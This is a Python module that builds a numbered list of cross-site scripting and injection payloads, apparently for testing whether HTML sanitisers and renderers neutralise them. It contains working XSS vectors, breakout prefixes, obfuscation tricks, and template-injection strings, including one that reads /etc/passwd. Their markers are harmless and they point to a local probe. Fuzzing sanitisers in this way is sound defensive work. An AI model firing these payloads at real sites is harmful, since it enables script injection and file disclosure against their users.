"""Texts that attack a page, made by rule: a vector, how it is spelt, and what it breaks out of.

Each has a number of its own, which it tells when it runs (``__hit(N)`` or ``alert(N)``) or asks
for (``PROBE/N``), so that a hit names the text.
"""

from __future__ import annotations

import html
from collections.abc import Callable, Iterator
from urllib.parse import quote

import attrs

PROBE = "http://127.0.0.1:9/probe"
"""Where requests go when nobody says otherwise."""

RUNS: tuple[str, ...] = (
    "<script>{js}</script>",
    "<img src=x onerror={js}>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s></svg>",
    "<details open ontoggle={js}>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}></audio>",
    "<input type=image src=x onerror={js}>",
    "<style onload={js}></style>",
    "<link rel=stylesheet href=x onerror={js}>",
    "<object data=x onerror={js}></object>",
    "<script src=x onerror={js}></script>",
    "<iframe src=about:blank onload={js}></iframe>",
    "<body onload={js}>",
    "<math><mtext><img src=x onerror={js}></mtext></math>",
    '<iframe srcdoc="<img src=x onerror=parent.{js}>"></iframe>',
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<table><tr><td><img src=x onerror={js}></table>",
    "<svg><image href=x onerror={js}></image></svg>",
    "<video src=x onerror={js}></video>",
    "<select><option><script>{js}</script></select>",
)
"""Vectors that run a call as soon as they stand in a page."""
ASKS: tuple[str, ...] = (
    "<img src={url}>",
    "<img srcset='{url} 1x'>",
    "<picture><source srcset={url}><img></picture>",
    "<link rel=stylesheet href={url}>",
    "<style>@import '{url}';</style>",
    "<p style='background:url({url})'>x</p>",
    "<style>body{background:url({url})}</style>",
    "<iframe src={url}></iframe>",
    "<object data={url}></object>",
    "<embed src={url}>",
    "<video poster={url}></video>",
    "<audio src={url}></audio>",
    "<video><source src={url}></video>",
    "<input type=image src={url}>",
    "<script src={url}></script>",
    "<svg><image href={url}></image></svg>",
    "<table background={url}><tr><td>x</table>",
    "<link rel=preload as=image href={url}>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<script type=module>import '{url}'</script>",
)
"""Vectors that ask for an address as soon as they stand in a page."""
OUT_OF: tuple[str, ...] = (
    "",
    '">',
    "'>",
    "--><!-- x -->",
    "</script>",
    "</style></title></textarea>",
    "]]>",
    "\u2028",
    '"}};*/',
    "{{ 7 * 7 }}{% raw %}",
    "```\n[x](javascript:0) ",
    "</p></li></td></summary></details>",
)
"""What stands before a vector: the end of an attribute, a comment, a script, a style, JSON …"""


def _mixed(text: str) -> str:
    """Tag names in upper and lower case by turns."""
    made, inside = [], False
    for place, letter in enumerate(text):
        inside = letter == "<" or (inside and letter.isalpha()) or (inside and letter == "/")
        made.append(letter.upper() if inside and place % 2 else letter)
    return "".join(made)


def _slashed(text: str) -> str:
    """A slash where a blank stood before the first attribute."""
    return text.replace(" ", "/", 1)


def _broken(text: str) -> str:
    """Line ends and tabs where blanks stood."""
    return text.replace(" ", "\r\n\t", 1)


def _numbered(text: str) -> str:
    """Letters inside attribute values as character references."""
    return text.replace("=__hit", "=&#95;&#x5f;hit").replace("=http", "=&#104;ttp")


def _padded(text: str) -> str:
    """Behind a long text, and with a character of no width."""
    return "x" * 300 + "\u200b" + text


SPELT: tuple[Callable[[str], str], ...] = (str, _mixed, _slashed, _broken, _numbered, _padded)
"""How a vector is written."""
SLEEPING: tuple[Callable[[str], str], ...] = (
    html.escape,
    lambda text: html.escape(html.escape(text)),
    quote,
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: "".join(f"&#{ord(letter)};" for letter in text),
    lambda text: text.replace("<", "%253C"),
    lambda text: "\u202e" + text[::-1],
    lambda text: "<" + "\x00" + text[1:].replace("<", "<\x00"),
)
"""Spellings that no page may decode; as they stand they do nothing."""
WAITING: tuple[str, ...] = (
    '" onmouseover="{js}',
    "' onfocus='{js}' autofocus='",
    "` onclick=`{js}",
    "<a href=javascript:{js}>x</a>",
    "<a href='data:text/html,<script>{js}</script>'>x</a>",
    "<form action={url}><button>x</button></form>",
    "javascript:{js}",
    "data:text/html;base64,PHNjcmlwdD4=",
    "<a href={url} ping={url}>x</a>",
    "${{js}} #{{js}} <%= {js} %>",
    "{{ self.__init__.__globals__ }}",
    "{% include '/etc/passwd' %}",
    "![x]({url}) [x](javascript:{js})",
    "<template><script>{js}</script></template>",
    "<?php {js} ?>",
    "<base href={url}/>",
)
"""Texts that need a hand, a place inside an attribute, or another machine than a browser."""


@attrs.frozen(kw_only=True)
class Payload:
    """A text that attacks."""

    number: int
    """What it tells when it runs or asks."""
    text: str
    """The text."""
    awake: bool
    """Whether it is meant to act by itself once it stands in a page as markup."""


def _forms() -> Iterator[tuple[str, bool]]:
    for place, vector in enumerate((*RUNS, *ASKS)):
        for turn, before in enumerate(OUT_OF):
            spelt = SPELT[(place + turn) % len(SPELT)]
            yield before + spelt(vector), True
    for place, vector in enumerate((*RUNS, *ASKS)):
        yield SLEEPING[place % len(SLEEPING)](vector), False
    for vector in WAITING:
        yield vector, False


def payloads(url: str = PROBE) -> tuple[Payload, ...]:
    """All of them; equal calls give equal texts.

    Args:
        url: Where those that ask for something ask.
    """
    made = []
    for number, (form, awake) in enumerate(_forms()):
        call = f"alert({number})" if number % 7 == 3 else f"__hit({number})"
        text = form.replace("{js}", call).replace("{url}", f"{url}/{number}")
        made.append(Payload(number=number, text=text, awake=awake))
    return tuple(made)


def some(url: str = PROBE, count: int = 60) -> tuple[Payload, ...]:
    """A few, spread over all kinds."""
    every = payloads(url)
    return tuple(every[place * len(every) // count] for place in range(count))
